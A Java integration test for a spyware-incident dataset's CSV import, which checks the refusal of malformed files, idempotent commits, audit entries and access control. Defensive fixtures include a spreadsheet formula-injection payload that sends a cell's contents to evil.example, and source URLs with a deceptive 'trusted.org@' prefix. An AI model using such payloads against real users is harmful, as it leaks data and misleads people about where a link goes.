package org.privacyimpact.curation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;

import org.jooq.DSLContext;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.privacyimpact.IntegrationTest;
import org.privacyimpact.audit.AuditAction;
import org.privacyimpact.audit.AuditEntry;
import org.privacyimpact.audit.AuditLog;
import org.privacyimpact.audit.RecordType;
import org.privacyimpact.curation.ImportPreview.RowOutcome.Change;
import org.privacyimpact.dataset.CountedUnit;
import org.privacyimpact.dataset.DenominatorRule;
import org.privacyimpact.dataset.FigureFilter;
import org.privacyimpact.dataset.RecordsCsv;
import org.privacyimpact.dataset.RecordsQuery;
import org.privacyimpact.dataset.UserBaseFilter;
import org.privacyimpact.exposure.ExposureFilter;
import org.privacyimpact.exposure.ExposureSort;
import org.privacyimpact.exposure.TargetedPerMillionQuery;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.authorization.AuthorizationDeniedException;
import org.springframework.security.test.context.support.WithAnonymousUser;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.transaction.annotation.Transactional;

/**
 * The CSV import: a corpus of bad files, each refused with its message and the database untouched (row counts
 * and a checksum of every curated table and the audit trail compared before and after); good files previewed,
 * committed all at once, and idempotent.
 */
@IntegrationTest
@Transactional
@WithMockUser(username = "curator-ana", roles = "CURATOR")
class ImportServiceTest {

    private static final List<String> TABLES = List.of("source", "incident", "target_figure", "platform_user_base",
            "audit_entry", "audit_change", "dataset_release");

    @Autowired
    ImportService imports;

    @Autowired
    RecordsCsv recordsCsv;

    @Autowired
    RecordsQuery records;

    @Autowired
    AuditLog audit;

    @Autowired
    TargetedPerMillionQuery exposure;

    @Autowired
    DSLContext db;

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            semicolons.csv                | 0 |                 | The columns are separated by semicolons; this import needs commas
            wrong-header.csv              | 0 |                 | unknown columns ref, incident, count
            missing-columns.csv           | 0 |                 | missing columns verified, source_quote
            malformed-quoting.csv         | 0 |                 | The file's quoting is broken
            negative-count.csv            | 2 | people_targeted | Must be 0 or more
            non-numeric-count.csv         | 2 | people_targeted | "1,400" is not a whole number
            unknown-country.csv           | 2 | country_iso2    | No country with ISO code "UK"
            unknown-incident.csv          | 2 | incident_id     | No incident "NSO2099"
            missing-quote.csv             | 2 | source_quote    | Required: the source's sentence, word for word
            duplicate-reference-ids.csv   | 3 | reference_id    | Appears twice in this file
            unknown-codes.csv             | 2 | count_qualifier | "roughly" is not one of exact, approximate, at_least
            area-country-mismatch.csv     | 2 | country_iso2    | Must be empty when area is worldwide
            too-many-cells.csv            | 2 |                 | Has 20 cells where the header has 19 columns
            header-only.csv               | 0 |                 | The file has a header but no rows
            empty.csv                     | 0 |                 | The file is empty
            one-bad-row-among-good.csv    | 4 | people_targeted | Must be 0 or more
            insane-year.csv               | 2 | period_start    | Must be a year from 1990
            bad-source-url.csv            | 2 | source_url      | Must start with https:// or http://
            """)
    void aBadFileIsRefusedWithItsRowColumnAndMessageAndTheDatabaseIsUntouched(String file, int row, String column,
                                                                             String message) {
        assertRefused(ImportKind.FIGURES, file, resource(file), row, column, message);
    }

    @Test
    void aUtf16FileIsRefusedAndNamedAsSuch() {
        String good = goodFigures();
        byte[] withBom = concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, good.getBytes(StandardCharsets.UTF_16LE));
        assertRefused(ImportKind.FIGURES, "utf16.csv", withBom, 0, null, "The file is UTF-16");
        assertRefused(ImportKind.FIGURES, "utf16-no-bom.csv", good.getBytes(StandardCharsets.UTF_16LE), 0, null,
                "The file is UTF-16 without a byte-order mark");
    }

    @Test
    void aZeroByteAnywhereInTheFileIsRefusedWithItsLineNotOnlyInTheFirst4Kb() {
        String good = goodFigures();
        String padded = good.replace("Imported for a test", "Imported for a test" + " padding".repeat(1000));
        byte[] bytes = padded.replace("A new report", "A new\0report").getBytes(StandardCharsets.UTF_8);
        assertThat(padded.indexOf("A new report")).isGreaterThan(4096);

        assertRefused(ImportKind.FIGURES, "nul.csv", bytes, 0, null, "on line 3, is a zero byte");
    }

    @Test
    void aPictureIsNamedAsOneNotAsAUtf16File() {
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 0x0D, 'I', 'H', 'D', 'R', 0, 0, 1, 0};

        assertRefused(ImportKind.FIGURES, "chart.csv", png, 0, null, "The file is a PNG image, not a text (CSV) file");
    }

    /** Values of the well-formed figures file made bad: what it says, what it says instead, and the refusal. */
    static Stream<Arguments> badFigureValues() {
        return Stream.concat(
                // counts are plain digits, as every exported file writes them; Java alone would read these as 121
                Stream.of("+121", "\u0661\u0662\u0661", "\u06F1\u06F2\u06F1", "\uFF11\uFF12\uFF11")
                        .map(count -> arguments(",BR,country,3,exact,", ",BR,country," + count + ",exact,", 2,
                                "people_targeted",
                                "\"" + count + "\" is not a whole number, e.g. 121 (digits 0 to 9 only")),
                Stream.of(
                        arguments("https://reports.example.org/chile-2019", "https://trusted.org@evil.example/x", 3,
                                "source_url", "Has \"trusted.org@\" before the site, so it leads to evil.example"),
                        arguments("journalists,false,false,,false,", "journalists,false,false,IMPORT-TEST-BR,false,",
                                2, "subset_of", "Names this figure itself")));
    }

    @ParameterizedTest
    @MethodSource("badFigureValues")
    void aBadValueIsRefusedNamingItsRowAndField(String good, String bad, int row, String field, String refusal) {
        assertRefused(ImportKind.FIGURES, "bad-value.csv", goodFiguresWith(good, bad), row, field, refusal);
    }

    @Test
    void aSourceAddressWithAUserNameBeforeTheSiteIsRefusedNamingWhereItLeads() {
        assertRefused(ImportKind.SOURCES, "userinfo-source.csv", sourceFile("https://trusted.org:pw@evil.example/x"), 2,
                "url", "so it leads to evil.example");
    }

    @Test
    void aFigureReferenceIdLongerThanItsColumnIsRefusedInThePreviewNotByTheDatabase() {
        String good = goodFigures();
        String forty = "IMPORT-TEST-" + "X".repeat(28);

        assertRefused(ImportKind.FIGURES, "long-key.csv", good.replace("IMPORT-TEST-BR", forty + "Y")
                .getBytes(StandardCharsets.UTF_8), 2, "reference_id", "2 to 40 letters");
        imports.commit(ImportKind.FIGURES, "forty.csv", good.replace("IMPORT-TEST-BR", forty).getBytes(StandardCharsets.UTF_8));
        assertThat(audit.history(RecordType.FIGURE, forty)).hasSize(1);
    }

    /**
     * The unique index on a source's address holds about 2,700 bytes; 2,048 characters outside ASCII are up to
     * 8 KB. Addresses are measured in bytes: 2,048 bytes of text that does not compress fit the index.
     */
    @Test
    void aSourceAddressIsMeasuredInBytesAndTheLongestAllowedFitsTheDatabase() {
        String prefix = "https://reports.example.org/";
        String tooLong = prefix + "é".repeat(1100);
        assertThat(tooLong.length()).isLessThan(2048);
        assertRefused(ImportKind.SOURCES, "long-url.csv", sourceFile(tooLong), 2, "url", "2,228 bytes long; at most 2,048");

        StringBuilder longest = new StringBuilder(prefix);
        Random random = new Random(18);
        while (longest.toString().getBytes(StandardCharsets.UTF_8).length + 3 <= 2048) {
            longest.appendCodePoint(0x4E00 + random.nextInt(0x5000));
        }
        while (longest.toString().getBytes(StandardCharsets.UTF_8).length < 2048) {
            longest.append((char) ('a' + random.nextInt(26)));
        }
        imports.commit(ImportKind.SOURCES, "longest-url.csv", sourceFile(longest.toString()));

        assertThat(db.fetchSingle("select count(*) from source where url = ?", longest.toString()).into(Integer.class))
                .isOne();
    }

    @Test
    void aWriteTheDatabaseRefusesAfterThePreviewNamesTheRowAndWritesNothing() {
        // a rule the preview does not know, as a future migration might add one
        db.execute("alter table target_figure add constraint test_only_not_three check (targeted_count <> 3) not valid");

        assertThatThrownBy(() -> imports.commit(ImportKind.FIGURES, "good-figures.csv", resource("good-figures.csv")))
                .isInstanceOf(ImportFailedException.class)
                .hasMessage("Nothing was imported: row 2 (IMPORT-TEST-BR) could not be written, because it breaks one"
                        + " of the dataset's rules. The preview should have said so: please tell the maintainers which"
                        + " file it was. The dataset is unchanged.");
    }

    @Test
    void aLatin1FileIsRefusedWithTheFirstBadByteAndItsLine() {
        String good = goodFigures().replace("Brazil", "São Paulo");
        assertRefused(ImportKind.FIGURES, "latin1.csv", good.getBytes(StandardCharsets.ISO_8859_1), 0, null,
                "byte 0xE3 on line 2 is not valid UTF-8");
    }

    @Test
    void anOversizedFileIsRefusedBeforeItIsReadAndTheLimitIsStated() {
        byte[] big = new byte[ImportFile.MAX_BYTES + 1];
        java.util.Arrays.fill(big, (byte) 'a');
        assertRefused(ImportKind.FIGURES, "big.csv", big, 0, null, "the limit is 5,242,880 bytes (5 MB)");
    }

    @Test
    void aGoodFileIsPreviewedThenCommittedWholeWithAnAuditEntryPerRow() {
        byte[] file = resource("good-figures.csv");

        ImportPreview preview = imports.preview(ImportKind.FIGURES, "good-figures.csv", file);

        assertThat(preview.problems()).isEmpty();
        assertThat(preview.count(Change.NEW)).isEqualTo(2);
        assertThat(records.figures(figuresOfWa2019(), 0, 500)).noneMatch(r -> r.referenceId().startsWith("IMPORT-TEST"));

        imports.commit(ImportKind.FIGURES, "good-figures.csv", file);

        var imported = records.figures(figuresOfWa2019(), 0, 500).stream()
                .filter(r -> r.referenceId().startsWith("IMPORT-TEST")).toList();
        assertThat(imported).hasSize(2);
        assertThat(imported).filteredOn(r -> r.referenceId().equals("IMPORT-TEST-NEW-SOURCE")).singleElement()
                .satisfies(r -> {
                    assertThat(r.source().title()).isEqualTo("A new report");
                    assertThat(r.source().quote()).isEqualTo("At least two people in Chile were notified.");
                });
        assertThat(audit.history(RecordType.FIGURE, "IMPORT-TEST-BR")).singleElement().satisfies(entry -> {
            assertThat(entry.action()).isEqualTo(AuditAction.CREATE);
            assertThat(entry.actor()).isEqualTo("curator-ana");
            assertThat(entry.comment()).isEqualTo("Imported from good-figures.csv");
        });
    }

    @Test
    void importingTheSameFileAgainChangesNothing() {
        byte[] file = resource("good-figures.csv");
        imports.commit(ImportKind.FIGURES, "good-figures.csv", file);
        Map<String, String> before = fingerprint();

        ImportPreview again = imports.commit(ImportKind.FIGURES, "good-figures.csv", file);

        assertThat(again.count(Change.UNCHANGED)).isEqualTo(2);
        assertThat(fingerprint()).isEqualTo(before);
    }

    @Test
    void theApisOwnCsvOfEveryFigureUserBaseAndSourceImportsAsUnchanged() {
        for (ImportKind kind : ImportKind.values()) {
            ImportPreview preview = imports.preview(kind, "export.csv", export(kind));
            assertThat(preview.problems()).as(kind.label()).isEmpty();
            assertThat(preview.rows()).as(kind.label()).isGreaterThan(50);
            assertThat(preview.count(Change.UNCHANGED)).as(kind.label()).isEqualTo(preview.rows());
        }
    }

    /**
     * A file says what each figure counts in counted_unit; where it leaves the cell blank, or the column out (files
     * downloaded before the column came), a figure counts its kind's usual unit: phone numbers on a leaked list,
     * else people. A unit the dataset does not know is refused with its row and column.
     */
    @Test
    void eachImportedFigureCountsTheUnitItsFileSaysOrItsKindsUsualOne() {
        String good = goodFigures();
        String leakedWithoutColumn = good.replace("IMPORT-TEST-BR,WA2019,,BR,country,3,exact,notified_by_platform",
                "IMPORT-TEST-BR,WA2019,,BR,country,3,exact,leaked_list_entries");
        imports.commit(ImportKind.FIGURES, "no-unit-column.csv", leakedWithoutColumn.getBytes(StandardCharsets.UTF_8));
        assertThat(unit("IMPORT-TEST-BR")).isEqualTo(CountedUnit.PHONE_NUMBERS);
        assertThat(unit("IMPORT-TEST-NEW-SOURCE")).isEqualTo(CountedUnit.PEOPLE);

        List<String> lines = good.lines().toList();
        String withColumn = lines.get(0) + ",counted_unit\n" + lines.get(1) + ",accounts\n" + lines.get(2) + ",\n";
        imports.commit(ImportKind.FIGURES, "unit-column.csv", withColumn.getBytes(StandardCharsets.UTF_8));
        assertThat(unit("IMPORT-TEST-BR")).isEqualTo(CountedUnit.ACCOUNTS);
        assertThat(unit("IMPORT-TEST-NEW-SOURCE")).isEqualTo(CountedUnit.PEOPLE);

        assertRefused(ImportKind.FIGURES, "unknown-unit.csv", withColumn.replace(",accounts", ",households")
                .getBytes(StandardCharsets.UTF_8), 2, "counted_unit", "\"households\" is not one of people, phone_numbers");
    }

    private CountedUnit unit(String referenceId) {
        return records.figures(figuresOfWa2019(), 0, 500).stream().filter(r -> r.referenceId().equals(referenceId))
                .findFirst().orElseThrow().unit();
    }

    /**
     * Files downloaded before dataset 2026.12.1 say no_rate (true or false) where today's say denominator_rule;
     * both import, and a rule from today's file reaches the rates.
     */
    @Test
    void aFileWithTheOldNoRateColumnImportsAndTheNewColumnSetsTheRule() {
        // good-figures.csv has the old column: false means "any denominator of the area"
        imports.commit(ImportKind.FIGURES, "good-figures.csv", resource("good-figures.csv"));
        assertThat(records.figures(figuresOfWa2019(), 0, 500)).filteredOn(r -> r.referenceId().startsWith("IMPORT-TEST"))
                .hasSize(2).allSatisfy(r -> assertThat(r.denominatorRule()).isEqualTo(DenominatorRule.AREA_USERS));
        byte[] oldTrue = goodFiguresWith("journalists,false,false,,false,", "journalists,false,false,,true,");
        imports.commit(ImportKind.FIGURES, "old.csv", oldTrue);
        assertThat(rule("IMPORT-TEST-BR")).isEqualTo(DenominatorRule.NO_RATE);

        String exported = new String(export(ImportKind.FIGURES), StandardCharsets.UTF_8);
        assertThat(exported.lines().findFirst().orElseThrow()).contains(",denominator_rule,").doesNotContain("no_rate");
        String severalPlatforms = exported.replaceFirst("(?m)^(WA2019-IN,.*?,IN,India,121,.*?,)country_user_base,",
                "$1several_platforms,");
        assertThat(severalPlatforms).isNotEqualTo(exported);
        imports.commit(ImportKind.FIGURES, "rule.csv", severalPlatforms.getBytes(StandardCharsets.UTF_8));

        assertThat(rule("WA2019-IN")).isEqualTo(DenominatorRule.SEVERAL_PLATFORMS);
        assertThat(exposure.find(ExposureFilter.whatsApp2019().withCountries(Set.of("IN")).withWorldwide(false),
                ExposureSort.HIGHEST_RATE_FIRST, 0, Integer.MAX_VALUE)).singleElement()
                .satisfies(india -> assertThat(india.perMillion()).isNull());
    }

    private DenominatorRule rule(String referenceId) {
        return records.figures(FigureFilter.ALL, 0, 1000).stream().filter(r -> r.referenceId().equals(referenceId))
                .findFirst().orElseThrow().denominatorRule();
    }

    @Test
    void anEditedCellOfAnExportedFileShowsAsOneChangedField() {
        String exported = new String(export(ImportKind.FIGURES), StandardCharsets.UTF_8);
        String edited = exported.replaceFirst("(?m)^(WA2019-IN,WA2019,.*?,IN,India,)121,", "$1122,");
        assertThat(edited).isNotEqualTo(exported);

        ImportPreview preview = imports.commit(ImportKind.FIGURES, "edited.csv", edited.getBytes(StandardCharsets.UTF_8));

        assertThat(preview.outcomes()).filteredOn(o -> o.change() == Change.CHANGED).singleElement().satisfies(o -> {
            assertThat(o.key()).isEqualTo("WA2019-IN");
            assertThat(o.fields()).containsExactly(new AuditEntry.FieldChange("people_targeted", "121", "122"));
        });
        assertThat(audit.history(RecordType.FIGURE, "WA2019-IN").getFirst().comment()).isEqualTo("Imported from edited.csv");
    }

    @Test
    void formulaPayloadsInTextCellsAreStoredAsTextAndLeaveAsInertCells() {
        ImportPreview preview = imports.commit(ImportKind.FIGURES, "formula-payloads.csv", resource("formula-payloads.csv"));

        assertThat(preview.notes()).extracting(ImportProblem::column).contains("victim_groups", "notes", "source_quote");
        var stored = records.figures(figuresOfWa2019(), 0, 500).stream()
                .filter(r -> r.referenceId().equals("IMPORT-TEST-FORMULA")).findFirst().orElseThrow();
        assertThat(stored.victimGroups()).isEqualTo("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")");
        assertThat(stored.notes()).isEqualTo("@SUM(1+1)");
        String exported = new String(export(ImportKind.FIGURES), StandardCharsets.UTF_8);
        assertThat(exported).contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"")
                .contains(",'@SUM(1+1),").contains("\"'+Three people, it said.\"");
        assertThat(imports.preview(ImportKind.FIGURES, "again.csv", export(ImportKind.FIGURES)).count(Change.CHANGED))
                .as("the exported apostrophes are taken off again on import").isZero();
    }

    @Test
    @WithAnonymousUser
    void anAnonymousVisitorCanNeitherPreviewNorImport() {
        byte[] file = resource("good-figures.csv");
        assertThatThrownBy(() -> imports.preview(ImportKind.FIGURES, "x.csv", file))
                .isInstanceOf(AuthorizationDeniedException.class);
        assertThatThrownBy(() -> imports.commit(ImportKind.FIGURES, "x.csv", file))
                .isInstanceOf(AuthorizationDeniedException.class);
    }

    private void assertRefused(ImportKind kind, String file, byte[] bytes, int row, String column, String message) {
        Map<String, String> before = fingerprint();

        ImportPreview preview = imports.preview(kind, file, bytes);
        assertThat(preview.canCommit()).isFalse();
        assertThat(preview.problems()).as(file).anySatisfy(problem -> {
            assertThat(problem.row()).isEqualTo(row);
            assertThat(problem.column()).isEqualTo(column);
            assertThat(problem.message()).contains(message);
        });
        assertThatThrownBy(() -> imports.commit(kind, file, bytes))
                .isInstanceOf(ImportRejectedException.class).hasMessageStartingWith("Nothing was imported");

        assertThat(fingerprint()).as(file).isEqualTo(before);
    }

    private Map<String, String> fingerprint() {
        return TableFingerprint.of(db, TABLES);
    }

    private byte[] export(ImportKind kind) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        switch (kind) {
            case FIGURES -> recordsCsv.figures(FigureFilter.ALL, out);
            case USER_BASES -> recordsCsv.userBases(UserBaseFilter.ALL, out);
            case SOURCES -> recordsCsv.sources(out);
        }
        return out.toByteArray();
    }

    private static byte[] sourceFile(String url) {
        return ("id,title,publisher,url,published_on,target_figures,user_bases\n,A long address,,\"" + url
                + "\",2020-01-02,,\n").getBytes(StandardCharsets.UTF_8);
    }

    private static FigureFilter figuresOfWa2019() {
        return new FigureFilter(null, "WA2019", null, null, null, null);
    }

    /** The test's well-formed figures file, as text. */
    private static String goodFigures() {
        return new String(resource("good-figures.csv"), StandardCharsets.UTF_8);
    }

    /** The well-formed figures file with one piece of text changed, as the bytes of a UTF-8 upload. */
    private static byte[] goodFiguresWith(String text, String replacement) {
        return goodFigures().replace(text, replacement).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] resource(String name) {
        try (InputStream in = ImportServiceTest.class.getResourceAsStream("/curation/import/" + name)) {
            return in.readAllBytes();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }
}
